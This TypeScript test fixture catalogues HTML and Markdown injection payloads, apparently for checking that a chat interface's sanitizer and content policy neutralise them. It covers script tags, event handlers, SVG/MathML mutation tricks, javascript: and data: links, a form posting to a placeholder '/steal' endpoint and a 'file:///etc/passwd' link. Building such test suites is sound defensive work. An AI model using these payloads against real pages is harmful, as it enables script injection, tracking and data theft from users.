/** The origin each one would load from, if it could. */
export const ELSEWHERE = 'https://elsewhere.invalid'

const run = 'wasRun=1'
const pixel = `${ELSEWHERE}/pixel.png`

type ByName = Readonly<Record<string, string>>

/**
 * HTML that runs or loads something without cleaning and without a policy, by class; each one separate, so none hides
 * behind another.
 */
export const hostileHtml: Readonly<Record<string, ByName>> = {
  script: { inline: `<script>${run}</script>`, upperCase: `<SCRIPT>${run}</SCRIPT >` },
  scriptFromElsewhere: {
    classic: `<script src="${ELSEWHERE}/x.js"></script>`,
    module: `<script type="module" src="${ELSEWHERE}/m.js"></script>`,
    imported: `<script type="module">import "${ELSEWHERE}/m.js"</script>`,
  },
  scriptInData: { address: `<script src="data:text/javascript,${run}"></script>` },
  imageHandler: { quoted: `<img src="x" onerror="${run}">`, bare: `<img src=x onerror=${run}//` },
  imageFromElsewhere: {
    src: `<img src="${pixel}">`,
    srcset: `<img srcset="${pixel} 2x">`,
    picture: `<picture><source srcset="${pixel}"><img alt=""></picture>`,
    input: `<input type="image" src="${pixel}">`,
    table: `<table background="${pixel}"></table>`,
  },
  svg: {
    onload: `<svg onload="${run}"></svg>`,
    script: `<svg><script>${run}</script></svg>`,
    image: `<svg><image href="${pixel}"/></svg>`,
    use: `<svg><use href="${ELSEWHERE}/x.svg#a"/></svg>`,
  },
  svgAnimation: {
    onbegin: `<svg><animate onbegin="${run}" attributeName="x" dur="1s"/></svg>`,
    link: `<svg><a><set attributeName="href" to="javascript:${run}"/><text>go</text></a></svg>`,
  },
  svgForeign: {
    frame: `<svg><foreignObject><iframe srcdoc="<script>parent.${run}</script>"></iframe></foreignObject></svg>`,
  },
  math: {
    maction: `<math><maction actiontype="statusline" xlink:href="javascript:${run}">go</maction></math>`,
    annotation: `<math><annotation-xml encoding="text/html"><img src="x" onerror="${run}"></annotation-xml></math>`,
    link: `<math href="javascript:${run}">go</math>`,
  },
  noscript: { attribute: `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>` },
  embed: {
    embed: `<embed src="${ELSEWHERE}/x.pdf">`,
    object: `<object data="${ELSEWHERE}/x.html"></object>`,
    applet: `<applet code="x"></applet>`,
  },
  pdf: {
    inData: `<embed type="application/pdf" src="data:application/pdf,x">`,
    download: `<a href="${ELSEWHERE}/x.pdf#javascript:${run}" download>paper</a>`,
  },
  link: {
    stylesheet: `<link rel="stylesheet" href="${ELSEWHERE}/x.css">`,
    prefetch: `<link rel="prefetch" href="${pixel}">`,
    preload: `<link rel="preload" as="image" href="${pixel}">`,
    preconnect: `<link rel="preconnect" href="${ELSEWHERE}">`,
    manifest: `<link rel="manifest" href="${ELSEWHERE}/m.json">`,
    icon: `<link rel="icon" href="${pixel}">`,
  },
  form: {
    onfocus: `<input name="a" autofocus onfocus="${run}">`,
    action: `<form action="${ELSEWHERE}/steal" method="post"><button>send</button></form>`,
    formaction: `<form><button formaction="javascript:${run}">send</button></form>`,
  },
  frame: {
    src: `<iframe src="${ELSEWHERE}/"></iframe>`,
    javascript: `<iframe src="javascript:parent.${run}"></iframe>`,
    srcdoc: `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
    inData: `<iframe src="data:text/html,<script>${run}</script>"></iframe>`,
  },
  style: {
    import: `<style>@import "${ELSEWHERE}/x.css"</style>`,
    background: `<style>body { background: url(${pixel}) }</style>`,
    attribute: `<p style="background: url(${pixel})">styled</p>`,
  },
  base: { withPicture: `<base href="${ELSEWHERE}/"><img src="pixel.png">` },
  media: {
    video: `<video src="${ELSEWHERE}/x.mp4" autoplay></video>`,
    poster: `<video poster="${pixel}"></video>`,
    handler: `<video src="x" onerror="${run}"></video>`,
    audio: `<audio src="${ELSEWHERE}/x.mp3" autoplay></audio>`,
    track: `<video crossorigin src="x"><track default src="${ELSEWHERE}/x.vtt"></video>`,
  },
  handlers: {
    toggle: `<details open ontoggle="${run}"><summary>more</summary></details>`,
    marquee: `<marquee onstart="${run}">m</marquee>`,
    body: `<body onload="${run}">`,
    animation: `<style>@keyframes a { }</style><p style="animation: a 1s" onanimationstart="${run}">p</p>`,
  },
  custom: {
    element: `<x-a onclick="${run}">x</x-a>`,
    template: `<template><script>${run}</script></template>`,
    shadow: `<div><template shadowrootmode="open"><img src="x" onerror="${run}"></template></div>`,
    slot: `<div><template shadowrootmode="open"><slot onslotchange="${run}"></slot></template>x</div>`,
  },
  mutation: {
    style: `<svg></p><style><a id="</style><img src=1 onerror=${run}>"></style></svg>`,
    glyph: `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  },
  mutationInComment: {
    comment: `<!--><img src=x onerror=${run}>-->`,
    cdata: `<![CDATA[><img src=x onerror=${run}>]]>`,
  },
  unfinished: { tag: `<img src=x onerror="${run}"` },
  encoded: { entities: `&lt;script&gt;${run}&lt;/script&gt;`, attribute: `<img src="x" onerror="&#119;asRun=1">` },
  linkAddress: {
    javascript: `<a href="javascript:${run}">a</a>`,
    mixedCase: `<a href="JaVaScRiPt:${run}">b</a>`,
    spaced: `<a href=" java&#9;script:${run}">c</a>`,
    inData: `<a href="data:text/html,<script>${run}</script>">d</a>`,
    vbscript: `<a href="vbscript:msgbox">e</a>`,
    share: `<a href="\\\\elsewhere.invalid\\share">f</a>`,
    web: `<a href="${ELSEWHERE}/">f</a>`,
    ping: `<a href="#" ping="${ELSEWHERE}/ping">g</a>`,
    area: `<map name="m"><area href="javascript:${run}"></map><img usemap="#m" alt="">`,
  },
  refresh: {
    elsewhere: `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}/">`,
    javascript: `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
    inData: `<meta http-equiv="refresh" content="0;url=data:text/html,<script>${run}</script>">`,
  },
  speculation: {
    rules: `<script type="speculationrules">{"prefetch":[{"urls":["${ELSEWHERE}/"],"eagerness":"immediate"}]}</script>`,
  },
}

/**
 * Inert in today's Chromium even when nothing forbids it. Kept because other browsers differ, and a sanitizer may bring
 * it to life. The rest must be live without a policy; see test/e2e/hostilePolicy.spec.ts.
 */
export const inertInChromium: ReadonlySet<string> = new Set([
  'svg use',
  'math maction',
  'math link',
  'embed applet',
  'pdf inData',
  'link preconnect',
  'link manifest',
  'link icon',
  'handlers marquee',
  'custom template',
  'mutation glyph',
  'encoded entities',
  'linkAddress inData',
  'linkAddress vbscript',
  'refresh javascript',
  'refresh inData',
  'speculation rules',
  'mermaid',
  'code',
])

/** The same through Markdown and its extensions. */
export const hostileMarkdown: ByName = {
  links:
    `[a](javascript:${run}) [b](JaVaScRiPt:${run}) [c](java\tscript:${run}) [d](&#106;avascript:${run}) ` +
    `[e](data:text/html,<script>${run}</script>) [f](vbscript:msgbox) [g](file:///etc/passwd) [h](ms-msdt:/id) ` +
    '[i](//host/share)',
  references: [
    `[a][1] <javascript:${run}> ![p][2]\n\n`,
    `[1]: javascript:${run} "title\\" onmouseover=${run}"\n[2]: ${pixel}`,
  ].join(''),
  pictures:
    `![a](${pixel}) ![b](javascript:${run}) ![c](data:image/svg+xml,<svg onload=${run}>) ` +
    '![d](//elsewhere.invalid/p.png)',
  inTable:
    `| <img src=x onerror=${run}> | [a](javascript:${run}) |\n|---|---|\n| <script>${run}</script> | \`<svg ` +
    `onload=${run}>\` |`,
  inFootnote: `word[^1]\n\n[^1]: <img src=x onerror=${run}> [a](javascript:${run})`,
  inHeading: `# <img src=x onerror=${run}>\n\n- [ ] <script>${run}</script>\n\n> <iframe src="${ELSEWHERE}"></iframe>`,
  mermaid:
    `\`\`\`mermaid\ngraph TD; A-->B; click A "javascript:${run}" "t"; B["<img src=x ` +
    `onerror=${run}>"]\n%%{init: {"securityLevel": "loose"}}%%\n\`\`\``,
  formula:
    `$$\\href{javascript:${run}}{x}$$ $$\\url{javascript:${run}}$$ $$\\includegraphics{${pixel}}$$ ` +
    `$$\\htmlData{a=b}{x}$$ $$\\htmlClass{" onclick=${run}}{x}$$ $$\\def\\a{\\a\\a}\\a$$`,
  code:
    `\`\`\`"><img src=x onerror=${run}>\n<script>${run}</script>\n\`\`\`\n\n\`\`\`html\n<img src=x ` +
    `onerror=${run}>\n\`\`\`\n\n\`\`\`svg\n<svg onload=${run}>\n\`\`\``,
  address:
    'http://user:pass@elsewhere.invalid/ https://xn--80ak6aa92e.invalid/ ' +
    `www.elsewhere.invalid/?a=<script>${run}</script>`,
}

/** All of them, by class, as texts of messages and of anything else in a conversation. */
export const scriptInjections: ByName = {
  ...Object.fromEntries(Object.entries(hostileHtml).map(([name, each]) => [name, Object.values(each).join('')])),
  ...hostileMarkdown,
}
